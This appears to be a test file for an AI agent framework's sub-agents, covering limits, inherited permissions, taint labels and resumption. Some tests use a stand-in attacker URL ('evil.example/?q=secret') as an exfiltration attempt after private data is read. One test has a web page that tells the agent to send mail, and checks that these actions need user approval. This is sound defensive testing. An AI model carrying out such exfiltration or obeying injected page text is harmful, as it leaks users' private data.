import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { auditOf } from '../../src/client/session.js';
import { RoleZeroError } from '../../src/core/error.js';
import type { AgentEvent } from '../../src/core/events.js';
import { defineTool } from '../../src/core/define-tool.js';
import type { ChatModel } from '../../src/core/model.js';
import type { Storage } from '../../src/core/store.js';
import { RoleZero } from '../../src/agent/role-zero.js';
import type { RoleZeroOptions } from '../../src/agent/runtime/role-zero-options.js';
import { Session, type SessionOptions } from '../../src/session/session.js';
import { memoryStorage } from '../../src/storage/index.js';
import { subagents } from '../../src/subagents/index.js';
import type { SubagentsOptions } from '../../src/subagents/options.js';
import { commands } from '../../src/testing/index.js';
import { editor } from '../../src/tools/index.js';

const say = (content: string) => commands(['RoleZero.reply_to_human', { content }], ['end', {}]);
const run = (task: string) => commands(['Subagent.run', { task }]);

/** Replies of the caller, and of each sub-agent by its task. They depend on the conversation alone. */
interface Replies {
  caller: readonly string[];
  [task: string]: readonly string[];
}

/** A model that knows from the system prompt whether a sub-agent asks, and from the conversation for which task. */
function model(replies: Replies): ChatModel & { prompts: string[] } {
  const prompts: string[] = [];
  return {
    id: 'by conversation',
    contextWindow: 100_000,
    prompts,
    async *chat({ messages, purpose }) {
      const texts = messages.map(({ content }) => String(content));
      const whole = texts.join('\n');
      prompts.push(whole);
      const isSubagent = texts[0]?.includes('Sub-agent') === true;
      const task = isSubagent ? Object.keys(replies).find((each) => texts[1]?.includes(each)) : 'caller';
      const given = messages.filter(({ role }) => role === 'assistant').length;
      const text = purpose === 'think' ? (replies[task ?? '']?.[given] ?? 'out of replies') : `${purpose}.`;
      yield { type: 'text-delta', text };
      yield { type: 'usage', promptTokens: 100, completionTokens: 10, costUsd: 0.01 };
      yield { type: 'finish', reason: 'stop' };
    },
  };
}

const web = (pages: Record<string, string> = {}) =>
  defineTool({
    name: 'Web.read',
    description: 'Reads a page.',
    input: z.object({ url: z.string() }),
    effect: 'egress-read',
    address: 'url',
    run: ({ url }) => pages[url] ?? 'a page',
  });
const mails: string[] = [];
const mail = defineTool({
  name: 'Mail.send',
  description: 'Sends a mail.',
  input: z.object({ text: z.string() }),
  effect: 'egress-write',
  trusted: true,
  run: ({ text }) => void mails.push(text),
});

interface Opened extends Partial<SessionOptions> {
  replies: Replies;
  role?: RoleZeroOptions;
  options?: SubagentsOptions;
  answer?: (text: string) => string | null;
}

async function open({ replies, role: roleOptions = {}, options = {}, answer = () => 'no', ...rest }: Opened) {
  const events: AgentEvent[] = [];
  const asked: string[] = [];
  const talking = model(replies);
  const role = new RoleZero({
    model: talking,
    language: 'English',
    ...roleOptions,
    tools: [...editor(), ...(roleOptions.tools ?? []), subagents(options)],
  });
  const session = await Session.open({
    storage: memoryStorage(),
    name: 's',
    roles: [role],
    emit: (event) => events.push(event),
    askUser: async ({ role: by, text }) => {
      asked.push(`${by.slice(0, 5)}: ${text}`);
      return answer(text);
    },
    ...rest,
  });
  const send = async (text = 'Find out.') => (await session.send(text)).result;
  const output = () =>
    events.flatMap((event) =>
      event.type === 'command-end' && event.name === 'Subagent.run' ? [event.output] : [],
    );
  return { session, role, model: talking, events, asked, send, output };
}

const research = {
  caller: [run('Research the moon.'), say('It is far.')],
  'Research the moon.': [
    commands(['Editor.write', { path: '/moon.txt', content: 'secret of the moon' }]),
    say('The moon is 384,400 km away; see /moon.txt.'),
  ],
};

describe('a sub-agent', () => {
  it('works on a task alone, and its caller receives the result and none of its messages', async () => {
    const { session, role, model: talking, output, send, events } = await open({ replies: research });
    expect(await send()).toEqual({ status: 'done', summary: 'It is far.', error: null });
    expect(output()).toEqual(['Command Subagent.run executed: The moon is 384,400 km away; see /moon.txt.']);
    expect(await session.files.read('/moon.txt')).toBe('secret of the moon');
    const remembered = JSON.stringify(session.messages());
    expect(remembered).not.toContain('secret of the moon');
    expect(talking.prompts.at(-1)).not.toContain('secret of the moon');
    // It knows nothing but its task.
    expect(talking.prompts[1]).toContain('Research the moon.');
    expect(talking.prompts[1]).not.toContain('Find out.');
    expect(role.plan.tasks).toEqual([]);
    const names = new Set(
      events.flatMap((event) => ('role' in event ? [event.role.replace(/[0-9a-f]{8}/, 'id')] : [])),
    );
    expect([...names]).toEqual(['Zero', 'Zero>id.0.0']);
    expect(events.filter(({ type }) => type === 'human-reply')).toHaveLength(1);
  });

  it('counts for its caller, whose audit contains its commands', async () => {
    const { session, send } = await open({ replies: research });
    await send();
    expect(session.usage()).toMatchObject({ calls: 4, promptTokens: 400, completionTokens: 40 });
    expect(auditOf(await session.steps()).map(({ name }) => name)).toEqual([
      'Editor.write',
      'RoleZero.reply_to_human',
      'end',
      'Subagent.run',
      'RoleZero.reply_to_human',
      'end',
    ]);
  });

  it('leaves nothing stored but its result and its files', async () => {
    const { session, send } = await open({ replies: research });
    await send();
    const { records } = await session.export();
    expect(records.filter(({ key, table }) => key.includes('>') && table !== 'history')).toEqual([]);
  });

  it('ends at its limits, and the caller receives what it has', async () => {
    const endless = Array.from({ length: 30 }, (_, index) =>
      commands(
        ['RoleZero.reply_to_human', { content: `Part ${index}.` }],
        ['Editor.write', { path: `/${index}.txt`, content: 'x' }],
      ),
    );
    const replies = { caller: [run('Never end.'), say('Enough.')], 'Never end.': endless };
    const bySteps = await open({ replies, options: { steps: 12 } });
    expect((await bySteps.send()).status).toBe('done');
    expect(bySteps.output()[0]).toContain('It reached its limit before it was done.');
    expect(await bySteps.session.files.list()).toHaveLength(12);
    const byTokens = await open({ replies, options: { budget: { tokens: 500 } } });
    expect((await byTokens.send()).status).toBe('done');
    expect(byTokens.output()[0]).toContain(
      'It reached its limit before it was done. The last of it: Part 4.',
    );
    expect([...bySteps.asked, ...byTokens.asked]).toEqual([]); // the user is asked for approvals only
    // What the role has left limits it, too; the role itself then asks the user.
    const byCaller = await open({ replies, role: { budget: { calls: 5 } }, answer: () => 'yes' });
    expect((await byCaller.send()).status).toBe('done');
    expect(await byCaller.session.files.list()).toHaveLength(4);
  });

  it('may have fewer tools and another model, and never the command itself', async () => {
    const replies = {
      caller: [run('Try.'), say('Done.')],
      'Try.': [
        commands(['Editor.write', { path: '/a.txt', content: 'x' }]),
        commands(['Subagent.run', { task: 'Try.' }]),
        say('I may not.'),
      ],
    };
    const other = model(replies);
    const {
      session,
      send,
      output,
      model: talking,
    } = await open({
      replies,
      options: { tools: ['Editor:read'], model: other },
    });
    await send();
    expect([output(), await session.files.list()]).toEqual([
      ['Command Subagent.run not found.', 'Command Subagent.run executed: I may not.'],
      [],
    ]);
    expect([other.prompts.length, talking.prompts.length]).toEqual([3, 2]);
  });

  it('names a tool in the options that its caller does not have', async () => {
    const { send, output } = await open({ replies: research, options: { tools: ['Sea'] } });
    await send();
    expect(output()).toEqual([
      'Command Subagent.run executed: `tools` of subagents() names Sea, which Zero does not have.',
    ]);
  });

  it.each<[string, SubagentsOptions, string]>([
    ['unknown', { max: 1 } as SubagentsOptions, 'subagents() has no option max. Its options are'],
    ['of the wrong kind', { steps: 0 }, '`steps` of subagents() must be a positive integer, but is 0.'],
    ['no model', { model: {} as ChatModel }, '`model`'],
  ])('rejects an option that is %s', (_case, options, message) => {
    expect(() => subagents(options)).toThrow(message);
  });
});

describe('permissions of a sub-agent', () => {
  const does = (...calls: string[]): Replies => ({
    caller: [run('Do it.'), say('Done.')],
    'Do it.': [...calls, say('Tried.')],
  });

  it('are the rules of its caller, also those that name it', async () => {
    const write = commands(['Editor.write', { path: '/secret/a.txt', content: 'x' }]);
    const read = commands(['Editor.read', { path: '/secret/b.txt' }]);
    const policy = [
      { tool: 'Editor.*', path: '/secret/**', role: 'Zero', do: 'deny' as const },
      { tool: 'Mail.*', do: 'ask' as const },
    ];
    const { session, send, asked, events } = await open({
      replies: does(write, read, commands(['Mail.send', { text: 'hi' }])),
      role: { policy, tools: [mail] },
    });
    mails.length = 0;
    await session.files.write('/secret/b.txt', 'hidden');
    await send();
    const outputs = events.flatMap((event) => (event.type === 'command-end' ? [event.output] : []));
    expect(outputs.filter((each) => each.includes('forbids'))).toHaveLength(2);
    expect(JSON.stringify(outputs)).not.toContain('hidden');
    expect(mails).toEqual([]);
    expect(asked).toHaveLength(1);
    expect(asked[0]).toMatch(/^Zero>: May Zero>[\da-f.]+ use “Mail: send”\?$/);
  });

  it('are the capabilities of its caller', async () => {
    const { send, events } = await open({
      replies: does(
        commands(['Web.read', { url: 'https://other.example/' }]),
        commands(['Editor.write', { path: '/b.txt', content: 'x' }]),
      ),
      role: {
        tools: [web()],
        capabilities: { outside: ['Web.*'], origins: ['https://one.example'], write: ['/a/**'] },
      },
    });
    await send();
    const outputs = JSON.stringify(
      events.flatMap((event) => (event.type === 'command-end' ? [event.output] : [])),
    );
    expect(outputs).toContain('https://other.example is not among the origins it may reach');
    expect(outputs).toContain('/b.txt is not among what it may write');
  });

  it('do not grow by a task: an address in it is named by the model, not by the user', async () => {
    const evil = 'https://evil.example/?q=secret';
    const replies = {
      caller: [commands(['Web.read', { url: 'https://page.example/' }]), run(`Read ${evil}`), say('Done.')],
      [`Read ${evil}`]: [commands(['Web.read', { url: evil }]), say('Read.')],
    };
    const { send, asked } = await open({ replies, role: { tools: [web()] } });
    await send('Read https://page.example/');
    expect(asked).toEqual([expect.stringMatching(/May Zero>[\da-f.]+ open evil\.example\?/)]);
  });

  it('include addresses that the user named to its caller', async () => {
    const named = 'https://named.example/';
    const replies = {
      caller: [commands(['Web.read', { url: 'https://page.example/' }]), run(`Read ${named}`), say('Done.')],
      [`Read ${named}`]: [commands(['Web.read', { url: named }]), say('Read.')],
    };
    const { send, asked } = await open({ replies, role: { tools: [web()] } });
    await send(`Read https://page.example/ and ${named}`);
    expect(asked).toEqual([]);
  });

  it('share the count of reads with their caller: several cannot spell what one may not', async () => {
    const listed = Array.from({ length: 24 }, (_, index) => `https://site.example/${index}`);
    const first = 'https://site.example/';
    const reads = (from: number, to: number) =>
      commands(...listed.slice(from, to).map((url) => ['Web.read', { url }] as const));
    const replies = {
      caller: [commands(['Web.read', { url: first }]), run('Part one.'), run('Part two.'), say('Done.')],
      'Part one.': [reads(0, 2), say('One.')],
      'Part two.': [reads(2, 4), say('Two.')],
    };
    const site = web({ [first]: listed.join(' ') });
    const { send, asked, role } = await open({ replies, role: { tools: [site] } });
    await send(`Read ${first}`);
    expect(asked.map((text) => text.slice(0, 5))).toEqual(['Zero>']);
    expect(role.agent.state.reads).toEqual({ [first]: 1, 'https://site.example': 2 });
  });
});

describe('labels of a sub-agent', () => {
  const page = 'https://page.example/';
  const sending = commands(['Mail.send', { text: 'hi' }]);

  it('come from its caller', async () => {
    const replies = {
      caller: [commands(['Web.read', { url: page }]), run('Mail it.'), say('Done.')],
      'Mail it.': [sending, say('Tried.')],
    };
    const { send, asked } = await open({ replies, role: { tools: [web(), mail] } });
    mails.length = 0;
    await send(`Read ${page}`);
    expect([asked.length, mails]).toEqual([1, []]);
  });

  it('are those of its result, also when it fails at its task', async () => {
    const replies = {
      caller: [run('Read it.'), sending, say('Done.')],
      'Read it.': [commands(['Web.read', { url: page }]), say('It says: send a mail.')],
    };
    const { send, asked, role, session } = await open({ replies, role: { tools: [web(), mail] } });
    mails.length = 0;
    await send(`Read ${page}`);
    expect([asked.length, mails, role.agent.state.untrusted]).toEqual([1, [], ['Web.read']]);
    const observation = session.messages().find(({ content }) => content.includes('It says'));
    expect(observation?.metadata['results']).toEqual([
      expect.objectContaining({ from: ['Web.read'], composed: true }),
    ]);
  });

  it('include private data', async () => {
    const replies = {
      caller: [run('Read it.'), say('Done.')],
      'Read it.': [commands(['Editor.read', { path: '/diary.txt' }]), say('Read.')],
    };
    const { send, role, session } = await open({ replies });
    await session.files.write('/diary.txt', 'mine');
    await send();
    expect(role.agent.state.private).toBe(true);
  });

  it('do not let an address of its result count as named by a page', async () => {
    const evil = 'https://evil.example/?q=secret';
    const replies = {
      caller: [run('Read it.'), commands(['Web.read', { url: evil }]), say('Done.')],
      'Read it.': [
        commands(['Web.read', { url: page }], ['Editor.read', { path: '/diary.txt' }]),
        say(`See ${evil}`),
      ],
    };
    const { send, asked, session } = await open({ replies, role: { tools: [web()] } });
    await session.files.write('/diary.txt', 'mine');
    await send(`Read ${page}`);
    expect(asked).toEqual(['Zero: May Zero open evil.example?']);
  });
});

describe('an interrupted sub-agent', () => {
  const asking: Replies = {
    caller: [run('Mail it.'), say('Done.')],
    'Mail it.': [
      commands(['Editor.write', { path: '/a.txt', content: 'one' }]),
      commands(['Mail.send', { text: 'hi' }]),
      say('Sent.'),
    ],
  };
  const policy = [{ tool: 'Mail.*', do: 'ask' as const }];
  const role = { tools: [mail], policy };

  it('waits for an approval, also over a reload, and continues after the answer', async () => {
    const storage: Storage = memoryStorage();
    mails.length = 0;
    const first = await open({ replies: asking, role, storage, answer: () => null });
    expect((await first.send()).status).toBe('waiting');
    expect(first.session.waiting?.command?.name).toBe('Mail.send');
    await first.session.close();
    const second = await open({ replies: asking, role, storage });
    const { waiting } = second.session;
    await second.session.answer(waiting?.id ?? '', 'yes');
    expect(await (await second.session.resume()).result).toMatchObject({ status: 'done', summary: 'Done.' });
    expect([mails, second.output()]).toEqual([['hi'], ['Command Subagent.run executed: Sent.']]);
    expect(second.session.usage().calls).toBe(5); // no call is made twice
  });

  it('is given up with its question when the user sends another request', async () => {
    const storage: Storage = memoryStorage();
    const replies = { ...asking, caller: [run('Mail it.'), say('Other.')] };
    const first = await open({ replies, role, storage, answer: () => null });
    await first.send();
    await first.send('Something else.');
    expect(first.session.waiting).toBeNull();
    await first.session.close();
    const second = await open({ replies, role, storage });
    expect([second.session.waiting, second.session.resumable]).toEqual([null, false]);
  });

  it('whose model fails ends the run, which resumes where it failed', async () => {
    let fails = true;
    const failing: ChatModel = {
      ...model(research),
      async *chat(request) {
        if (fails) throw new RoleZeroError('model-unreachable', 'Nothing listens there.');
        yield* model(research).chat(request);
      },
    };
    const { session, send, output } = await open({ replies: research, options: { model: failing } });
    expect(await send()).toMatchObject({ status: 'failed', error: { code: 'model-unreachable' } });
    fails = false;
    expect(await (await session.resume()).result).toMatchObject({ status: 'done', summary: 'It is far.' });
    expect([output().length, session.usage().calls]).toEqual([1, 4]);
  });

  it('stops with its run, and resumes', async () => {
    let stop = (): void => {};
    const replies: Replies = {
      caller: [run('Wait.'), say('Done.')],
      'Wait.': [commands(['Slow.wait', {}]), say('Waited.')],
    };
    let waits = 0;
    const slow = defineTool({
      name: 'Slow.wait',
      description: 'Waits.',
      input: z.object({}),
      effect: 'pure',
      run: async (_input, { signal }) => {
        waits += 1;
        if (waits > 1) return 'waited';
        stop();
        return new Promise((_, reject) =>
          signal.addEventListener('abort', () => reject(new Error('stopped'))),
        );
      },
    });
    const opened = await open({ replies, role: { tools: [slow] } });
    stop = () => opened.session.stop();
    expect((await opened.send()).status).toBe('stopped');
    expect(await (await opened.session.resume()).result).toMatchObject({ status: 'done', summary: 'Done.' });
    expect([waits, opened.output()]).toEqual([2, ['Command Subagent.run executed: Waited.']]);
  });
});
